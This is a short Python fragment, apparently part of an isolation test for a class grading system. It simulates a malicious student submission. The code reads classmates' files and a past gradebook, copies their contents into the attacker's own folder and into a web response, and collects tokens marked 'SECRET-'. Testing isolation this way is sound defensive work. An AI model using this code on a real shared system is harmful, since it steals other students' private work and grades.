# Other students: read a classmate's files and the previous gradebook (ATTACK["victims"], where a
# student could find them), copy what they hold to a file outside the submission, into our own
# folder in the class, and into the answer of GET /.
def _read_classmates():
    stolen = []
    for path in ATTACK["victims"]:
        try:
            with open(path, encoding="utf-8") as victim:
                stolen.append(victim.read())
        except OSError:
            pass
    if not stolen:
        return None
    text = "\n".join(stolen)
    evidence("stolen.txt", text)
    try:
        with open(_os.path.join(ATTACK["own_folder"], "stolen.txt"), "w", encoding="utf-8") as copy:
            copy.write(text)
    except OSError:
        pass
    secrets = [word for word in text.split() if word.startswith("SECRET-")]
    return "read " + " ".join(secrets)


answer(attack_once("read_classmates", _read_classmates))
